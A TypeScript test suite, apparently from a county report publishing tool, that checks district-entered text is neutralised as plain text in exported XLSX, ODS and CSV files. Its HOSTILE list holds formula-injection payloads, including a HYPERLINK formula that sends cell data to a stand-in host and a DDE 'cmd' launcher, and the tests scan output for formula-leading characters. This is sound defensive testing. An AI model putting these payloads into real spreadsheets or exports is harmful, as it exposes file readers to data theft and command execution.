import * as XLSX from '@e965/xlsx';
import { strFromU8, unzipSync } from 'fflate';
import { gridOf } from '../../shared/grid';
import { composeCountyBook } from '../../shared/book';
import { countyWorkbookModel, publishCopy } from '../../sync/publish';
import { originalSheetModel } from '../../sync/publish/originalSheetModel';
import { workbookParts, zipParts } from '../../sync/xlsx';
import { aPlan } from '../builders/aPlan';
import { aCounty, aReturn } from '../builders/aReturn';

/** What a spreadsheet takes for the beginning of a formula, and some that were tried on people. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  `=HYPERLINK("http://elsewhere.example/?"&A1,"Look")`,
  "=cmd|' /C calc'!A0",
];

const plan = HOSTILE.reduce(
  (made, text, at) =>
    made.withAction({
      ref: `1.${at + 1}`,
      text,
      objective: text,
      section: text,
      lead: { person: null, organisation: text, text },
      status: text,
      resources: text,
      progress: text,
    }),
  aPlan('=Plan()'),
);
const county = composeCountyBook(
  aCounty([aReturn('=District()', [plan.withIndicator({ name: '=Indicator()', unit: '=x' })])]),
);

const bookBytes = () => Buffer.from(zipParts(workbookParts(countyWorkbookModel(county))));
const copy = publishCopy(county, { names: true });

describe('what a district writes is never a formula in what the county publishes', () => {
  const formulasOf = (bytes: Uint8Array) => {
    const { Sheets } = XLSX.read(bytes, { cellFormula: true });
    return Object.values(Sheets).flatMap((sheet) =>
      Object.values(sheet).flatMap((cell: unknown) =>
        typeof cell === 'object' && cell !== null && 'f' in cell ? [String(cell.f)] : [],
      ),
    );
  };

  test('in the county workbook, where each such text is marked as text', () => {
    const bytes = bookBytes();
    expect(formulasOf(bytes)).toEqual([]);
    const texts = Object.values(XLSX.read(bytes).Sheets['Actions']!).map(
      (cell) => (cell as { v?: unknown }).v,
    );
    for (const text of HOSTILE) expect(texts).toContain(text.replace(/\r/g, '\n'));
    expect(strFromU8(unzipSync(bytes)['xl/styles.xml']!)).toContain('quotePrefix="1"');
  });

  test.each(['county.xlsx', 'county.ods'])('in %s of the publication copy', async (name) => {
    const bytes = (await copy).get(name)!;
    expect(formulasOf(bytes)).toEqual([]);
    const xml = Object.values(unzipSync(bytes))
      .map((part) => strFromU8(part))
      .join('\n');
    expect(xml).not.toMatch(/<f>|table:formula=/);
  });

  test('in any CSV of the publication copy, which a spreadsheet would work out', async () => {
    const names = [...(await copy).keys()].filter((name) => name.endsWith('.csv'));
    expect(names.length).toBeGreaterThan(3);
    for (const name of names) {
      const sheet = XLSX.utils.sheet_to_json<string[]>(
        XLSX.read(strFromU8((await copy).get(name)!), { type: 'string', raw: true }).Sheets['Sheet1']!,
        { header: 1, raw: true },
      );
      const dangerous = sheet
        .flat()
        .filter((cell) => /^[=+\-@\t\r]/.test(String(cell)) && Number.isNaN(Number(cell)));
      expect([name, dangerous]).toEqual([name, []]);
    }
    const actions = strFromU8((await copy).get('actions.csv')!);
    for (const text of HOSTILE) expect(actions).toContain(`'${text.replaceAll('"', '""')}`);
  });

  test('on the sheets that adopt keeps', () => {
    const { rows } = originalSheetModel(
      'Plan',
      gridOf(
        'Plan',
        HOSTILE.map((text) => [text]),
      ),
    );
    const cells = [...rows].flatMap((row) => row.cells);
    expect(cells).toHaveLength(HOSTILE.length);
    for (const { content, style } of cells) {
      expect(typeof content).toBe('string');
      expect(style?.quotePrefix).toBe(true);
    }
  });
});
